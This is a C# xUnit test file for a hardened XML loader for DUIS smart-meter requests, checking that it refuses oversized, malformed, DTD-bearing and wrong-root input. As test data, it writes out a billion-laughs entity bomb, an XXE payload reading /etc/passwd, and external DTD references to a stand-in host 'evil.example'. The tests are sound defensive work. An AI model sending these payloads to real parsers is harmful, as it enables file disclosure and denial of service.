using System.Text;
using CommsHub.Dcc.Duis;
using Xunit;

namespace CommsHub.Dcc.Tests;

public class SecureXmlTests
{
    private const string Sr = DuisNamespaces.ServiceUserGateway;
    private static readonly string Minimal = $"<sr:Request xmlns:sr='{Sr}' schemaVersion='5.4'/>";

    [Fact]
    public void Loads_a_DUIS_root_and_preserves_whitespace()
    {
        var doc = SecureXml.LoadXml($"<sr:Request xmlns:sr='{Sr}'>\n  <sr:Header/>\n</sr:Request>");
        Assert.True(doc.PreserveWhitespace);
        Assert.Contains("\n  ", doc.OuterXml);
    }

    [Fact]
    public void Oversized_body_is_refused_from_bytes_string_and_stream()
    {
        var options = new SecureXmlOptions { MaxCharacters = 1000 };
        var big = $"<sr:Request xmlns:sr='{Sr}'>" + new string(' ', 5000) + "</sr:Request>";
        AssertRejected(DuisRejectReason.Oversized, "limit", () => SecureXml.LoadXml(big, options));
        AssertRejected(DuisRejectReason.Oversized, "limit", () => SecureXml.Load(Encoding.UTF8.GetBytes(big), options));
        AssertRejected(DuisRejectReason.Oversized, "limit", () => SecureXml.Load(new MemoryStream(Encoding.UTF8.GetBytes(big)), options));
        // Under the byte bound but over the character limit: the reader's own limit catches it.
        var mid = $"<sr:Request xmlns:sr='{Sr}'>" + new string(' ', 1500) + "</sr:Request>";
        AssertRejected(DuisRejectReason.Oversized, "limit", () => SecureXml.Load(Encoding.UTF8.GetBytes(mid), options));
    }

    [Fact]
    public void Endless_stream_is_cut_off()
    {
        var options = new SecureXmlOptions { MaxCharacters = 1 << 16 };
        AssertRejected(DuisRejectReason.Oversized, "limit", () => SecureXml.Load(new EndlessStream(), options));
    }

    [Theory]
    [InlineData("")]
    [InlineData("not xml")]
    [InlineData("<sr:Request xmlns:sr='http://www.dccinterface.co.uk/ServiceUserGateway'>")]
    [InlineData("<a><b></a></b>")]
    [InlineData("<sr:Request xmlns:sr='http://www.dccinterface.co.uk/ServiceUserGateway'/><second/>")]
    public void Malformed_xml_is_refused(string xml)
    {
        AssertRejected(DuisRejectReason.Malformed, "", () => SecureXml.LoadXml(xml));
    }

    // Found by the duis-schema fuzz target: XmlReader accepts any version text after "1." but XmlDocument then throws
    // ArgumentException from XmlDeclaration's constructor, which escaped Load as an untyped error.
    [Fact]
    public void Xml_declaration_version_that_the_dom_refuses_is_refused_as_malformed()
    {
        var xml = $"<?xml version=\"1.0DDDDDDD\" encoding=\"UTF-8\"?><sr:Request xmlns:sr='{Sr}'/>";
        AssertRejected(DuisRejectReason.Malformed, "declaration", () => SecureXml.Load(Encoding.UTF8.GetBytes(xml)));
        AssertRejected(DuisRejectReason.Malformed, "declaration", () => SecureXml.LoadXml(xml));
    }

    [Fact]
    public void Doctype_is_refused()
    {
        var xml = $"<!DOCTYPE sr:Request><sr:Request xmlns:sr='{Sr}'/>";
        AssertRejected(DuisRejectReason.DtdProhibited, "DTD", () => SecureXml.LoadXml(xml));
    }

    [Fact]
    public void Billion_laughs_is_refused_without_expanding()
    {
        var sb = new StringBuilder("<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'>");
        sb.Append("<!ENTITY lol1 '&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;'>");
        for (var i = 2; i <= 9; i++)
            sb.Append($"<!ENTITY lol{i} '{string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))}'>");
        sb.Append($"]><sr:Request xmlns:sr='{Sr}'>&lol9;</sr:Request>");
        AssertRejected(DuisRejectReason.EntityExpansion, "entit", () => SecureXml.LoadXml(sb.ToString()));
    }

    [Theory]
    [InlineData("<!DOCTYPE r [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><sr:Request xmlns:sr='http://www.dccinterface.co.uk/ServiceUserGateway'>&xxe;</sr:Request>")]
    [InlineData("<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;]><sr:Request xmlns:sr='http://www.dccinterface.co.uk/ServiceUserGateway'/>")]
    [InlineData("<!DOCTYPE r SYSTEM 'http://evil.example/x.dtd'><sr:Request xmlns:sr='http://www.dccinterface.co.uk/ServiceUserGateway'/>")]
    public void External_entities_are_refused(string xml)
    {
        AssertRejected(DuisRejectReason.ExternalEntity, "external", () => SecureXml.LoadXml(xml));
    }

    [Fact]
    public void Undeclared_entity_reference_is_refused()
    {
        AssertRejected(DuisRejectReason.EntityExpansion, "entity", () => SecureXml.LoadXml($"<sr:Request xmlns:sr='{Sr}'>&foo;</sr:Request>"));
    }

    [Theory]
    [InlineData("<sr:Request xmlns:sr='http://example.com/NotDuis'/>")]
    [InlineData("<Request/>")]
    [InlineData("<sr:Envelope xmlns:sr='http://www.dccinterface.co.uk/ServiceUserGateway'/>")]
    public void Wrong_root_or_namespace_is_refused(string xml)
    {
        AssertRejected(DuisRejectReason.WrongRoot, "expected", () => SecureXml.LoadXml(xml));
    }

    [Fact]
    public void Utf8_bytes_with_declaration_load()
    {
        var doc = SecureXml.Load(Encoding.UTF8.GetBytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + Minimal));
        Assert.Equal("Request", doc.DocumentElement!.LocalName);
    }

    private static void AssertRejected(DuisRejectReason reason, string messagePart, Action act)
    {
        // Assert.Throws demands this exact type: no XmlException or other type may escape.
        var ex = Assert.Throws<DuisRejectedException>(act);
        Assert.Equal(reason, ex.Reason);
        Assert.False(string.IsNullOrWhiteSpace(ex.Message));
        Assert.Contains(messagePart, ex.Message, StringComparison.OrdinalIgnoreCase);
    }

    private sealed class EndlessStream : Stream
    {
        public override bool CanRead => true;
        public override bool CanSeek => false;
        public override bool CanWrite => false;
        public override long Length => throw new NotSupportedException();
        public override long Position { get => 0; set => throw new NotSupportedException(); }
        public override void Flush() { }
        public override int Read(byte[] buffer, int offset, int count) { Array.Fill(buffer, (byte)' ', offset, count); return count; }
        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
        public override void SetLength(long value) => throw new NotSupportedException();
        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
    }
}
